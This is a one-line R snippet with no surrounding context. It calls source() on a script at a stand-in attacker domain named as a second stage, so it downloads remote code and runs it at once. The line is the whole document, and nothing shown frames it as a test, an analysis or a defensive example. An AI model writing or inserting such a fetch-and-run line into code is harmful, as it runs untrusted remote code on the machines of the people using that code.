source("https://evil.example/stage2.R")
